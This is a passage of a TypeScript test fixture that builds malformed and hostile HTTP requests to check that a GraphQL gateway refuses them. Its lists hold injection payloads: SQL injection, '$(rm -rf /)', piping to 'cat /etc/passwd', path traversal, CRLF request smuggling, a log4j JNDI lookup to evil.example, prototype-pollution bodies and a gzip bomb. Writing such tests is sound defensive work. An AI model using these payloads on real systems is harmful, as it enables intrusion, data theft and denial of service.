/**
 * A deterministic set of malformed and hostile HTTP requests for the gateway (issue 6): every one must be
 * answered with a coded error, and none may reach the upstream. Each request is invalid on purpose in exactly
 * the way its label says, and otherwise as valid as possible, so that it tests one guard and not an earlier one.
 *
 * Deterministic: the same seed and options give the same requests, so a failure names a request that can be
 * replayed. The PRNG only picks among variants (Accept header, literal or variable, which argument); it never
 * decides whether a case exists.
 */
import { gzipSync } from 'node:zlib';
import type { OperationLimitsConfig } from '../../src/config.js';
import { seededRandom } from './seeded-random.js';
import { pastRange } from './test-gateway.js';

export const HOSTILE_CATEGORIES = [
  'date-time',
  'ids',
  'user-lists',
  'nesting',
  'aliases',
  'tokens',
  'directives',
  'fragments',
  'operations',
  'variables',
  'prototype',
  'oversize',
  'non-json',
  'methods',
  'content-types',
  'get',
  'batch',
  'framing',
  'headers',
  'auth',
] as const;
export type HostileCategory = (typeof HOSTILE_CATEGORIES)[number];

type HeaderMap = Readonly<Record<string, string | readonly string[]>>;

export interface HostileRequest {
  /** Unique and stable: names the case in failures and in lists of known gaps. */
  readonly label: string;
  readonly category: HostileCategory;
  readonly method: string;
  /** Path and query string, sent as is. */
  readonly path: string;
  /** Sent exactly; without Content-Length or Transfer-Encoding the sender adds the body's length. */
  readonly headers: HeaderMap;
  readonly body: string | Buffer | undefined;
}

export interface HostileOptions {
  /** The request's instant, for ranges that are valid except for the one thing under test. */
  readonly nowMs: number;
  /** The gateway's limits, so that sizes land just under and over them. */
  readonly limits: OperationLimitsConfig;
  readonly seed?: number;
}

const JSON_TYPE = { 'content-type': 'application/json' };
const CSRF = { 'x-graphql-yoga-csrf': '1' };
const ACCEPTS = ['application/graphql-response+json', 'application/json', '*/*', undefined] as const;
const SELECTION = 'userId streams { direction metrics { name } }';
const CALL_QUALITY = `query Hostile($appId: ID!, $roomId: ID!, $userIds: [ID!]!, $from: DateTime!, $to: DateTime!) {
  callQuality(appId: $appId, roomId: $roomId, userIds: $userIds, from: $from, to: $to) { ${SELECTION} } }`;
const ROOM_USER = `query Hostile($appId: ID!, $roomId: ID!, $userId: ID!, $from: DateTime!, $to: DateTime!) {
  room(appId: $appId, roomId: $roomId) { user(userId: $userId, from: $from, to: $to) { ${SELECTION} } } }`;

/** Ids the upstream could never hold: controls, unicode tricks, injections of every kind, sizes. */
const HOSTILE_IDS: ReadonlyArray<readonly [string, string]> = [
  ['empty', ''],
  ['space', ' '],
  ['inner space', 'alice bob'],
  ['NUL', 'alice\u0000'],
  ['only NUL', '\u0000'],
  ['bell and escape', 'a\u0007\u001b[31mred'],
  ['newline', 'alice\nbob'],
  ['CRLF header injection', 'alice\r\nSet-Cookie: session=stolen'],
  ['CRLF request smuggling', 'a\r\n\r\nGET /admin HTTP/1.1\r\nHost: x'],
  ['DEL', 'alice\u007f'],
  ['RTL override', '\u202Eecila'],
  ['zero-width space', 'ali\u200Bce'],
  ['BOM', '\uFEFFalice'],
  ['fullwidth', 'ａｌｉｃｅ'],
  ['accented', 'alicé'],
  ['emoji', 'alice😀'],
  ['lone surrogate', 'alice\ud800'],
  ['SQL quote', "' OR '1'='1"],
  ['SQL drop', 'alice; DROP TABLE calls; --'],
  ['SQL union', '1 UNION SELECT password FROM users'],
  ['NoSQL operator', '{"$gt": ""}'],
  ['NoSQL where', "'; return true; var x='"],
  ['shell substitution', '$(rm -rf /)'],
  ['shell backticks', '`id`'],
  ['shell pipe', 'alice | cat /etc/passwd'],
  ['path traversal', '../../etc/passwd'],
  ['windows traversal', '..\\..\\windows\\win.ini'],
  ['encoded traversal', '%2e%2e%2f%2e%2e%2fetc'],
  ['comma: a second upstream id', 'alice,bob'],
  ['query parameter injection', 'alice&RoomId=other&Action=Delete'],
  ['fragment', 'alice#frag'],
  ['HTML', '<script>alert(1)</script>'],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the literal text is the attack.
  ['log4j', '${jndi:ldap://evil.example/a}'],
  ['format string', '%s%s%s%n'],
  ['wildcard', '*'],
  ['slash', 'app/1'],
  ['129 characters', 'a'.repeat(129)],
  ['10 KB', 'x'.repeat(10 * 1024)],
];

/** DateTimes that must be refused: wrong shape, impossible instants, or not a string at all. */
const BAD_DATE_TIMES: ReadonlyArray<readonly [string, unknown]> = [
  ['no offset', '2026-11-25T10:00:00'],
  ['Feb 30', '2026-02-30T10:00:00Z'],
  ['Feb 29 of a common year', '2027-02-29T10:00:00Z'],
  ['month 13', '2026-13-01T00:00:00Z'],
  ['day 0', '2026-11-00T00:00:00Z'],
  ['hour 24', '2026-11-25T24:00:00Z'],
  ['minute 60', '2026-11-25T10:60:00Z'],
  ['leap second', '2026-06-30T23:59:60Z'],
  ['offset +24:00', '2026-11-25T10:00:00+24:00'],
  ['offset +99:99', '2026-11-25T10:00:00+99:99'],
  ['year 99999', '99999-01-01T00:00:00Z'],
  ['expanded year', '+099999-01-01T00:00:00Z'],
  ['negative year', '-000001-01-01T00:00:00Z'],
  ['space separator', '2026-11-25 10:00:00Z'],
  ['date only', '2026-11-25'],
  ['time only', '10:00:00Z'],
  ['double zone', '2026-11-25T10:00:00ZZ'],
  ['ten fraction digits', '2026-11-25T10:00:00.1234567890Z'],
  ['fullwidth digits', '２０２６-11-25T10:00:00Z'],
  ['NUL inside', '2026-11-25T10:00:00\u0000Z'],
  ['trailing newline', '2026-11-25T10:00:00Z\n'],
  ['now', 'now'],
  ['yesterday', 'yesterday'],
  ['empty', ''],
  ['NaN', 'NaN'],
  ['Infinity', 'Infinity'],
  ['unix ms as a string', '1764064800000'],
  ['Date.toString', 'Tue Nov 25 2026 10:00:00 GMT+0000'],
  ['SQL', "2026-11-25T10:00:00Z' OR 1=1 --"],
  ['5000 digits', '9'.repeat(5000)],
  ['100 KB', `2026-11-25T10:00:00Z${' '.repeat(100_000)}`],
  ['unix ms number', 1_764_064_800_000],
  ['negative number', -1],
  ['huge number', 1e308],
  ['boolean', true],
  ['object', { $date: '2026-11-25T10:00:00Z' }],
  ['array', ['2026-11-25T10:00:00Z']],
  ['null', null],
];

/** The valid room, as literal arguments; documents are built from it so each case shows only what it breaks. */
const ROOM = 'appId: "app1", roomId: "room1"';
const HOUR_MS = 3_600_000;
const DAY_MS = 24 * HOUR_MS;

/** What every group of cases needs: the sinks that record requests, and the valid values cases start from. */
interface Kit {
  readonly limits: OperationLimitsConfig;
  readonly nowMs: number;
  readonly valid: { appId: string; roomId: string; userIds: string[]; from: string; to: string };
  /** `from: "…", to: "…"` of the valid range, for literal arguments. */
  readonly span: string;
  readonly random: () => number;
  add(
    category: HostileCategory,
    label: string,
    method: string,
    path: string,
    headers: HeaderMap,
    body?: string | Buffer,
  ): void;
  /** A JSON POST of `payload` (an object is serialised; a string or Buffer is sent as is). */
  post(category: HostileCategory, label: string, payload: unknown): void;
  query(category: HostileCategory, label: string, document: string, variables?: unknown): void;
  get(category: HostileCategory, label: string, search: string, headers?: HeaderMap): void;
}

/** In the order the list is built; each adds the cases of one category. */
const CASE_GROUPS: ReadonlyArray<(kit: Kit) => void> = [
  dateTimes,
  ids,
  userLists,
  nesting,
  aliases,
  tokens,
  directives,
  fragments,
  operations,
  variables,
  prototypes,
  oversize,
  nonJson,
  batches,
  methods,
  contentTypes,
  gets,
  headers,
  framing,
];

/** Builds the list; every request in it is refused by a correct gateway, and none needs the upstream. */
export function hostileRequests(options: HostileOptions): HostileRequest[] {
  const random = seededRandom(options.seed ?? 0x5eed);
  const range = pastRange(1, 10, options.nowMs);
  const requests: HostileRequest[] = [];
  const labels = new Set<string>();
  const add: Kit['add'] = (category, name, method, path, headers, body) => {
    const label = `${category}/${name}`;
    if (labels.has(label)) throw new Error(`duplicate hostile request label: ${label}`);
    labels.add(label);
    requests.push({ label, category, method, path, headers, body });
  };
  const post: Kit['post'] = (category, label, payload) => {
    const accept = pick(random, ACCEPTS);
    const body = typeof payload === 'string' || Buffer.isBuffer(payload) ? payload : JSON.stringify(payload);
    add(category, label, 'POST', '/graphql', { ...JSON_TYPE, ...(accept ? { accept } : {}) }, body);
  };
  const kit: Kit = {
    limits: options.limits,
    nowMs: options.nowMs,
    valid: { appId: 'app1', roomId: 'room1', userIds: ['alice', 'bob'], from: range.from, to: range.to },
    span: `from: "${range.from}", to: "${range.to}"`,
    random,
    add,
    post,
    query: (category, label, document, variables) => post(category, label, { query: document, variables }),
    get: (category, label, search, headers = {}) =>
      add(category, label, 'GET', `/graphql?${search}`, headers),
  };
  for (const group of CASE_GROUPS) group(kit);
  return requests;
}

function pick<T>(random: () => number, items: readonly T[]): T {
  return items[Math.floor(random() * items.length)] as T;
}

function times(count: number, make: (index: number) => string): string {
  return Array.from({ length: count }, (_, index) => make(index)).join(' ');
}

/**
 * callQuality (room.user for `userId`; either one, at random, for the range) with `argument` replaced by
 * `value`, passed as a variable or written as a literal; every other argument is valid.
 */
function replaced(
  kit: Kit,
  category: HostileCategory,
  label: string,
  argument: string,
  value: unknown,
  literal: boolean,
) {
  const userField = argument === 'userId' || (argument !== 'userIds' && kit.random() < 0.5);
  const { userIds: _users, ...single } = kit.valid;
  const values: Record<string, unknown> = userField ? { ...single, userId: 'alice' } : { ...kit.valid };
  values[argument] = value;
  if (!literal) {
    kit.query(category, `${label} (${argument}, variable)`, userField ? ROOM_USER : CALL_QUALITY, values);
    return;
  }
  const args = (...names: string[]) =>
    names.map((name) => `${name}: ${JSON.stringify(values[name])}`).join(', ');
  const document = userField
    ? `{ room(${args('appId', 'roomId')}) { user(${args('userId', 'from', 'to')}) { ${SELECTION} } } }`
    : `{ callQuality(${args('appId', 'roomId', 'userIds', 'from', 'to')}) { ${SELECTION} } }`;
  kit.query(category, `${label} (${argument}, literal)`, document);
}

/** Every bad DateTime as a variable (and as a literal when a string), then well-formed but impossible ranges. */
function dateTimes(kit: Kit): void {
  for (const [label, value] of BAD_DATE_TIMES) {
    const argument = pick(kit.random, ['from', 'to']);
    replaced(kit, 'date-time', label, argument, value, false);
    if (typeof value === 'string') replaced(kit, 'date-time', label, argument, value, true);
  }
  const { nowMs, valid } = kit;
  const iso = (ms: number) => new Date(ms).toISOString();
  const ranges: Array<[string, string, string]> = [
    ['from equals to', valid.from, valid.from],
    ['from 1 ms after to', iso(Date.parse(valid.to) + 1), valid.to],
    ['from a week ago', iso(nowMs - 7 * DAY_MS), iso(nowMs - 7 * DAY_MS + HOUR_MS)],
    ['from in 1970', '1970-01-01T00:00:00Z', valid.to],
    ['from in year 1', '0001-01-01T00:00:00Z', valid.to],
    ['from an hour ahead', iso(nowMs + HOUR_MS), iso(nowMs + 2 * HOUR_MS)],
    ['from in 9999', '9999-12-31T23:59:59Z', '9999-12-31T23:59:59.999Z'],
    ['to before 1970', valid.from, '1969-12-31T23:59:59Z'],
  ];
  for (const [label, from, to] of ranges) {
    kit.query('date-time', `${label} (variables)`, CALL_QUALITY, { ...valid, from, to });
    const document = `{ callQuality(${ROOM}, userIds: ["alice"], from: "${from}", to: "${to}") { ${SELECTION} } }`;
    kit.query('date-time', `${label} (literal range)`, document);
  }
}

/** Every hostile id in every position, as a variable or a literal at random, and raw controls in literals. */
function ids(kit: Kit): void {
  for (const [label, id] of HOSTILE_IDS) {
    for (const argument of ['appId', 'roomId', 'userId', 'userIds']) {
      const value = argument === 'userIds' ? ['alice', id] : id;
      replaced(kit, 'ids', label, argument, value, kit.random() < 0.5);
    }
  }
  const raw = { 'raw NUL': '\u0000', 'raw newline': '\n', 'raw CR': '\r', 'raw ESC': '\u001b' };
  for (const [label, char] of Object.entries(raw)) {
    kit.query('ids', label, `{ room(appId: "a${char}b", roomId: "room1") { appId } }`);
  }
}

/** Lists at, just over and far over the entry and cost limits; those at a limit carry one invalid id. */
function userLists(kit: Kit): void {
  const { limits, valid, span } = kit;
  const users = (count: number, prefix = 'u') => Array.from({ length: count }, (_, i) => `${prefix}${i}`);
  const entries = limits.maxUserEntries;
  // The valid range is one hour: one upstream call per 20 users.
  const overCost = limits.maxUpstreamCalls * 20 + 1;
  const byVariable = (label: string, userIds: unknown, extra: object = {}) =>
    kit.query('user-lists', label, CALL_QUALITY, { ...valid, userIds, ...extra });
  byVariable(`${entries + 1} users, one over the entry limit`, users(entries + 1));
  byVariable(`${entries} users, the last invalid`, [...users(entries - 1), 'bad id']);
  byVariable(`${entries - 1} users with from equal to to`, users(entries - 1), { to: valid.from });
  byVariable(`${overCost} users, one call over the cost limit`, users(overCost));
  byVariable(`${overCost - 1} users at the cost limit, one invalid`, [...users(overCost - 2), 'bad;id']);
  byVariable('20 000 users', users(20_000));
  byVariable(`${entries + 1} copies of one user`, Array(entries + 1).fill('alice'));
  byVariable('5 000 ids of 40 characters', users(5_000, 'x'.repeat(39)));
  byVariable('no users', []);
  byVariable('a null user', ['alice', null]);
  const inline = (label: string, count: number) => {
    const document = `{ callQuality(${ROOM}, ${span}, userIds: ${JSON.stringify(users(count))}) { userId } }`;
    kit.query('user-lists', label, document);
  };
  inline(`${entries + 1} users inline`, entries + 1);
  inline('12 000 users inline, over the token limit', 12_000);
  const shared = times(200, (i) => `a${i}: callQuality(${ROOM}, ${span}, userIds: $u) { userId }`);
  const sharedDocument = `query ($u: [ID!]!) { ${shared} }`;
  kit.query('user-lists', '200 aliases sharing a 1 000-user variable', sharedDocument, { u: users(1_000) });
  const stale = new Date(kit.nowMs - 8 * DAY_MS).toISOString();
  const room = times(
    240,
    (i) => `u${i}: user(userId: "u${i}", from: "${stale}", to: "${valid.to}") { userId }`,
  );
  kit.query('user-lists', '240 room users over a week ago', `{ room(${ROOM}) { ${room} } }`);
}

/** Selections, literals and variables nested 20 to 200 deep, and some far deeper. */
function nesting(kit: Kit): void {
  const { span, valid } = kit;
  const unknown = (n: number) => `{ ${'a { '.repeat(n)}b${' }'.repeat(n)} }`;
  const inline = (n: number) => `{ ${'... on Query { '.repeat(n)}nope${' }'.repeat(n)} }`;
  const list = (n: number) =>
    `{ callQuality(${ROOM}, ${span}, userIds: ${'['.repeat(n)}"alice"${']'.repeat(n)}) { userId } }`;
  const object = (n: number) =>
    `{ room(appId: ${'{ a: '.repeat(n)}1${' }'.repeat(n)}, roomId: "room1") { appId } }`;
  const points = `room(${ROOM}) { user(userId: "alice", ${span}) { streams { metrics { points`;
  const belowScalar = (n: number) => `{ ${points} { time { ${'x { '.repeat(n)}y${' }'.repeat(n + 6)} }`;
  for (const n of [20, 50, 100, 150, 200]) {
    kit.query('nesting', `selection depth ${n}`, unknown(n));
    kit.query('nesting', `inline fragments ${n} deep around an unknown field`, inline(n));
    kit.query('nesting', `real fields then ${n} levels below a scalar`, belowScalar(n));
    kit.query('nesting', `list literal ${n} deep`, list(n));
    kit.query('nesting', `object literal ${n} deep`, object(n));
    let nested: unknown = 'alice';
    for (let i = 0; i < n; i++) nested = [nested];
    kit.query('nesting', `variable list ${n} deep`, CALL_QUALITY, { ...valid, userIds: nested });
  }
  // Written as text: JSON.stringify recurses, and 10 000 levels would overflow this process's stack too.
  for (const n of [200, 10_000]) {
    const deep = `${'{"a":'.repeat(n)}1${'}'.repeat(n)}`;
    kit.post('nesting', `extensions ${n} deep`, `{"query":"{ nope }","extensions":${deep}}`);
    kit.post(
      'nesting',
      `variables ${n} deep`,
      `{"query":${JSON.stringify(CALL_QUALITY)},"variables":{"userIds":${deep}}}`,
    );
  }
  // Far beyond the depth limit yet under the token limit: the parser has to get through them first.
  kit.query('nesting', 'selection depth 5 000', unknown(5_000));
  kit.query('nesting', 'inline fragments 3 000 deep', inline(3_000));
  kit.query('nesting', 'list literal 5 000 deep', list(5_000));
  kit.query('nesting', 'object literal 4 000 deep', object(4_000));
}

function aliases(kit: Kit): void {
  const { span } = kit;
  const user = (i: number) => `u${i}: user(userId: "u${i}", ${span}) { userId }`;
  const callQuality = (i: number) => `c${i}: callQuality(${ROOM}, ${span}, userIds: ["u${i}"]) { userId }`;
  const room = (i: number) => `r${i}: room(appId: "app1", roomId: "r${i}") { appId }`;
  for (const n of [kit.limits.maxAliases + 1, 300, 1_000]) {
    kit.query('aliases', `${n} room.user aliases`, `{ room(${ROOM}) { ${times(n, user)} } }`);
    kit.query('aliases', `${n} callQuality aliases`, `{ ${times(n, callQuality)} }`);
    kit.query('aliases', `${n} room aliases`, `{ ${times(n, room)} }`);
  }
  const fragments = [0, 1, 2].map(
    (f) => `fragment F${f} on Room { ${times(100, (i) => user(f * 100 + i))} }`,
  );
  const spread = `{ room(${ROOM}) { ...F0 ...F1 ...F2 } } ${fragments.join(' ')}`;
  kit.query('aliases', '300 aliases over three fragments', spread);
  kit.query('aliases', '1 000 aliases of one field name', `{ ${times(1_000, (i) => `x${i}: nope`)} }`);
}

/** Token floods, huge tokens, and 10 KB names in every place a name goes (messages must not quote them). */
function tokens(kit: Kit): void {
  const limit = kit.limits.maxTokens;
  const name = (letter: string) => letter.repeat(10_240);
  const cases: Array<[string, string]> = [
    [`${limit + 1} names`, `{ ${'a '.repeat(limit)}}`],
    [`${limit * 2} names`, `{ ${'a '.repeat(limit * 2)}}`],
    ['punctuation flood', `{ ${'!'.repeat(100_000)} }`],
    ['bracket flood', `{ room(appId: ${'['.repeat(60_000)}) { appId } }`],
    ['200 KB comment before an unknown field', `#${'c'.repeat(200_000)}\n{ nope }`],
    ['200 KB string literal id', `{ room(appId: "${'s'.repeat(200_000)}", roomId: "room1") { appId } }`],
    ['5 000-digit number id', `{ room(appId: ${'9'.repeat(5_000)}.5, roomId: "room1") { appId } }`],
    ['10 KB field name', `{ ${name('f')} }`],
    ['10 KB argument name', `{ room(${name('g')}: 1, ${ROOM}) { appId } }`],
    [
      '10 KB enum value',
      `{ callQuality(${ROOM}, ${kit.span}, userIds: ["a"], directions: [${name('E')}]) { userId } }`,
    ],
    ['10 KB fragment name', `{ ...${name('F')} }`],
    ['10 KB type name', `query ($a: ${name('T')}) { nope }`],
    ['10 KB variable name', `{ room(appId: $${name('v')}, roomId: "room1") { appId } }`],
    ['10 KB directive name', `{ __typename @${name('d')} }`],
    ['10 KB name after the document', `{ nope } ${name('N')}`],
    ['10 KB operation name, twice', `query ${name('O')} { nope } query ${name('O')} { nope }`],
  ];
  for (const [label, document] of cases) kit.query('tokens', label, document);
}

function directives(kit: Kit): void {
  const cases: Array<[string, string]> = [
    ['1 000 @skip on one field', `{ __typename ${'@skip(if: false) '.repeat(1_000)}}`],
    ['5 000 @include, over the token limit', `{ __typename ${'@include(if: true) '.repeat(5_000)}}`],
    ['3 000 unknown directives', `{ __typename ${'@x '.repeat(3_000)}}`],
    ['@deprecated in a query', '{ __typename @deprecated }'],
    ['@skip without its argument', '{ __typename @skip }'],
    ['@skip with a string', '{ __typename @skip(if: "yes") }'],
    ['@skip with an undeclared variable', '{ __typename @skip(if: $nope) }'],
    ['directive on the operation', 'query @skip(if: true) { nope }'],
  ];
  for (const [label, document] of cases) kit.query('directives', label, document);
}

function fragments(kit: Kit): void {
  // Each level spreads the one below twice: 2^levels fields if anything expanded fragments naively.
  const doubling = (levels: number) => {
    const parts = ['fragment F0 on Query { nope }'];
    for (let i = 1; i <= levels; i++) parts.push(`fragment F${i} on Query { ...F${i - 1} ...F${i - 1} }`);
    return `{ ...F${levels} } ${parts.join(' ')}`;
  };
  const A = 'fragment A on Query';
  const cases: Array<[string, string]> = [
    ['self cycle', `{ ...A } ${A} { __typename ...A }`],
    ['two-fragment cycle', `{ ...A } ${A} { ...B } fragment B on Query { ...A }`],
    [
      'three-fragment cycle',
      `{ ...A } ${A} { ...B } fragment B on Query { ...C } fragment C on Query { ...A }`,
    ],
    ['doubling 20 levels around an unknown field', doubling(20)],
    ['doubling 40 levels around an unknown field', doubling(40)],
    ['unknown fragment', '{ ...Missing }'],
    ['fragment on an unknown type', '{ ...A } fragment A on Nope { __typename }'],
    ['fragment on the wrong type', '{ ...A } fragment A on Room { appId }'],
    ['duplicate fragment names', `{ ...A } ${A} { __typename } ${A} { nope }`],
    ['unused fragment', `{ nope } ${A} { __typename }`],
    ['only fragments', `${A} { __typename }`],
  ];
  for (const [label, document] of cases) kit.query('fragments', label, document);
}

function operations(kit: Kit): void {
  const named = 'query A { __typename }';
  const cases: Array<[string, unknown]> = [
    ['duplicate operation names', { query: `${named} query A { nope }`, operationName: 'A' }],
    ['unknown operationName', { query: named, operationName: 'B' }],
    ['two anonymous operations', { query: '{ __typename } { __typename }' }],
    ['anonymous and named', { query: `{ __typename } ${named}` }],
    ['two named, none chosen', { query: `${named} query B { __typename }` }],
    [
      'operationName of a fragment',
      { query: 'query A { ...F } fragment F on Query { nope }', operationName: 'F' },
    ],
    ['empty operationName', { query: named, operationName: '' }],
    ['operationName 10 KB', { query: named, operationName: 'A'.repeat(10_240) }],
    ['operationName a number', { query: '{ __typename }', operationName: 5 }],
    ['operationName an object', { query: '{ __typename }', operationName: { name: 'A' } }],
    ['operationName true', { query: '{ __typename }', operationName: true }],
    ['operationName an array', { query: named, operationName: ['A'] }],
    ['mutation', { query: 'mutation { deleteEverything }' }],
    ['subscription', { query: 'subscription { callQuality }' }],
    ['empty query', { query: '' }],
    ['whitespace query', { query: ' \n\t ' }],
    ['no query', { variables: {} }],
    ['query a number', { query: 42 }],
    ['query an object', { query: { kind: 'Document', definitions: [] } }],
    ['query an array', { query: ['{ __typename }'] }],
  ];
  for (const [label, payload] of cases) kit.post('operations', label, payload);
}

/** Variables of the wrong type, shape or nesting; wrong declarations; variables that are not an object. */
function variables(kit: Kit): void {
  const { valid, span } = kit;
  const wrong: Array<[string, Record<string, unknown>]> = [
    ['appId an object', { appId: { id: 'app1' } }],
    ['appId an array', { appId: ['app1'] }],
    ['appId a float', { appId: 1.5 }],
    ['appId a boolean', { appId: true }],
    ['appId null', { appId: null }],
    ['appId missing', { appId: undefined }],
    ['appId 10 KB key object', { appId: { ['k'.repeat(10_240)]: 'v' } }],
    ['userIds a nested list', { userIds: [['alice']] }],
    ['userIds an object', { userIds: { 0: 'alice' } }],
    ['userIds a list of objects', { userIds: Array.from({ length: 500 }, () => ({ id: 'alice' })) }],
    ['userIds a list of booleans', { userIds: [true, false] }],
    // An integer is a valid ID, but String(1e21) is "1e+21", which the id check refuses.
    ['roomId 1e21', { roomId: 1e21 }],
  ];
  for (const [label, override] of wrong)
    kit.query('variables', label, CALL_QUALITY, { ...valid, ...override });
  const directions = `query ($d: [Direction!]!) { callQuality(${ROOM}, ${span}, userIds: ["alice"], directions: $d) { userId } }`;
  const badDirections: Array<[string, unknown]> = [
    ['lower-case enum', ['up']],
    ['unknown enum', ['SIDEWAYS']],
    ['enum as number', [0]],
    ['null in enum list', ['UP', null]],
    ['empty direction list', []],
    ['10 KB enum', ['Z'.repeat(10_240)]],
  ];
  for (const [label, d] of badDirections) kit.query('variables', `directions ${label}`, directions, { d });
  // An empty range as well, so a step that happens to coerce is still refused.
  const empty = `from: "${valid.from}", to: "${valid.from}"`;
  const step = `query ($s: Int) { callQuality(${ROOM}, ${empty}, userIds: ["alice"]) { streams { metrics { points(step: $s) { value } } } } }`;
  const badSteps: Array<[string, unknown]> = [
    ['a string', '60'],
    ['a float', 1.5],
    ['2^53', 2 ** 53],
    ['negative', -60],
  ];
  for (const [label, s] of badSteps) kit.query('variables', `step ${label}`, step, { s });
  kit.post('variables', 'step 1e400', `{"query":${JSON.stringify(step)},"variables":{"s":1e400}}`);
  const room = (declaration: string) => `query (${declaration}) { room(appId: $a, roomId: "r") { appId } }`;
  const declared: Array<[string, string, unknown]> = [
    ['undeclared variable', '{ room(appId: $nope, roomId: "room1") { appId } }', {}],
    ['variable of the wrong declared type', room('$a: String!'), { a: 'app1' }],
    ['variable declared twice', room('$a: ID!, $a: ID!'), { a: 'app1' }],
    ['variable of an unknown type', room('$a: Nope!'), { a: 'app1' }],
    ['default of the wrong type', room('$a: ID! = {x: 1}'), {}],
    [
      '10 000 unused variables',
      '{ nope }',
      Object.fromEntries(Array.from({ length: 10_000 }, (_, i) => [`v${i}`, i])),
    ],
  ];
  for (const [label, document, values] of declared) kit.query('variables', label, document, values);
  const notObjects: Array<[string, unknown]> = [
    ['an array', [valid]],
    ['a string', 'appId=app1'],
    ['a number', 7],
    ['true', true],
  ];
  for (const [label, values] of notObjects)
    kit.query('variables', `variables ${label}`, CALL_QUALITY, values);
}

/** Keys that pollute prototypes when merged naively; written as JSON text, so they are own properties. */
function prototypes(kit: Kit): void {
  const room = JSON.stringify('query ($a: ID!) { room(appId: $a, roomId: "room1") { appId } }');
  const named = (name: string) =>
    JSON.stringify(`query ($${name}: ID!) { room(appId: $${name}, roomId: "r") { appId } }`);
  const cases: Array<[string, string]> = [
    ['__proto__ carrying the variable', `{"query":${room},"variables":{"__proto__":{"a":"app1"}}}`],
    [
      'constructor.prototype',
      `{"query":${room},"variables":{"constructor":{"prototype":{"a":"app1","polluted":1}}}}`,
    ],
    ['__proto__ as the variable value', `{"query":${room},"variables":{"a":{"__proto__":{"polluted":1}}}}`],
    [
      '__proto__ in a list',
      `{"query":${JSON.stringify(CALL_QUALITY)},"variables":{"userIds":[{"__proto__":{"polluted":1}}]}}`,
    ],
    ['body __proto__', '{"query":"{ nope }","__proto__":{"polluted":1}}'],
    ['body constructor', '{"query":"{ nope }","constructor":{"prototype":{"polluted":1}}}'],
    ['extensions __proto__', '{"query":"{ nope }","extensions":{"__proto__":{"polluted":1}}}'],
    ['variables named __proto__', `{"query":${named('__proto__')},"variables":{"__proto__":"x y"}}`],
    ['variable named constructor', `{"query":${named('constructor')},"variables":{}}`],
    ['operationName __proto__', '{"query":"query __proto__ { nope }","operationName":"__proto__"}'],
  ];
  for (const [label, body] of cases) kit.post('prototype', label, body);
}

/** Bodies over the limit, sent or only declared, of undeclared size, or small but inflating to 50 MB. */
function oversize(kit: Kit): void {
  const max = kit.limits.maxBodyBytes;
  const padded = (size: number) => {
    const head = '{"query":"{ nope }","extensions":{"pad":"';
    return `${head}${'p'.repeat(size - head.length - 3)}"}}`;
  };
  kit.post('oversize', 'one byte over the limit', padded(max + 1));
  kit.post('oversize', 'twice the limit', padded(max * 2));
  kit.post('oversize', '4 MB of zeros', Buffer.alloc(4 * 1024 * 1024));
  const framed = (label: string, headers: Record<string, string>, body: string | Buffer) =>
    kit.add('oversize', label, 'POST', '/graphql', { ...JSON_TYPE, ...headers }, body);
  framed('declares 1 GB, sends 2 bytes', { 'content-length': String(1024 ** 3) }, '{}');
  framed('declares one byte over, sends 2', { 'content-length': String(max + 1) }, '{}');
  framed('chunked, small', { 'transfer-encoding': 'chunked' }, '{"query":"{ nope }"}');
  framed('chunked, over the limit', { 'transfer-encoding': 'chunked' }, padded(max + 1));
  framed('chunked with gzip', { 'transfer-encoding': 'gzip, chunked' }, '{"query":"{ nope }"}');
  // Harmless only as long as the gateway never inflates request bodies.
  const bomb = gzipSync(Buffer.alloc(50 * 1024 * 1024, 0x20));
  framed('gzip bomb (50 MB inflated) under the limit', { 'content-encoding': 'gzip' }, bomb);
}

function nonJson(kit: Kit): void {
  const typename = '{"query":"{ __typename }"}';
  const badUtf8 = [Buffer.from('{"query":"{ room(appId: \\"a'), Buffer.from([0xc3, 0x28, 0xff])];
  badUtf8.push(Buffer.from('\\", roomId: \\"r\\") { appId } }"}'));
  const cases: Array<[string, string | Buffer]> = [
    ['empty', ''],
    ['whitespace', ' \r\n\t'],
    ['truncated object', typename.slice(0, -1)],
    ['truncated string', '{"query":"{ __type'],
    ['lone brace', '{'],
    ['trailing garbage', `${typename} garbage`],
    ['two objects', typename + typename],
    ['single quotes', "{'query':'{ __typename }'}"],
    ['comments', '{"query":"{ nope }" /* c */}'],
    ['NaN', '{"query":NaN}'],
    ['null', 'null'],
    ['a number', '42'],
    ['a string', '"{ __typename }"'],
    ['true', 'true'],
    ['BOM then JSON', `\uFEFF${typename}`],
    ['UTF-16 LE', Buffer.from(typename, 'utf16le')],
    ['binary', Buffer.from([0xff, 0xfe, 0x00, 0x01, 0x80, 0xc3, 0x28, 0x00])],
    ['invalid UTF-8 in an id', Buffer.concat(badUtf8)],
    ['NUL bytes', '\u0000\u0000\u0000'],
    ['duplicate query keys', '{"query":"{ __typename }","query":"{ nope }"}'],
    ['a GraphQL document', '{ __typename }'],
    ['XML', '<?xml version="1.0"?><query>{ __typename }</query>'],
    ['form encoding', 'query=%7B__typename%7D'],
  ];
  for (const [label, body] of cases) kit.post('non-json', label, body);
}

function batches(kit: Kit): void {
  const typename = { query: '{ __typename }' };
  kit.post('batch', 'empty array', '[]');
  kit.post('batch', 'one operation in an array', [typename]);
  kit.post('batch', 'two operations', [typename, { query: '{ nope }' }]);
  kit.post('batch', '2 000 operations', Array(2_000).fill(typename));
  kit.post('batch', 'nested arrays', [[typename]]);
  kit.post('batch', 'array of nulls', [null, null]);
}

const REFUSED = JSON.stringify({ query: '{ nope }' });

function methods(kit: Kit): void {
  for (const method of ['PUT', 'DELETE', 'PATCH']) {
    kit.add('methods', `${method} with JSON`, method, '/graphql', JSON_TYPE, REFUSED);
    kit.add(
      'methods',
      `${method} with the CSRF header`,
      method,
      '/graphql',
      { ...JSON_TYPE, ...CSRF },
      REFUSED,
    );
  }
  const preflight = { origin: 'https://evil.example', 'access-control-request-method': 'POST' };
  kit.add('methods', 'OPTIONS without origin', 'OPTIONS', '/graphql', {});
  kit.add('methods', 'OPTIONS with the CSRF header', 'OPTIONS', '/graphql', CSRF);
  kit.add('methods', 'OPTIONS preflight from an unknown origin', 'OPTIONS', '/graphql', preflight);
  kit.add('methods', 'HEAD', 'HEAD', '/graphql', {});
  kit.add('methods', 'HEAD with the CSRF header', 'HEAD', '/graphql', CSRF);
  kit.add('methods', 'HEAD with a query', 'HEAD', '/graphql?query=%7B__typename%7D', CSRF);
  kit.add('methods', 'TRACE', 'TRACE', '/graphql', {});
}

function contentTypes(kit: Kit): void {
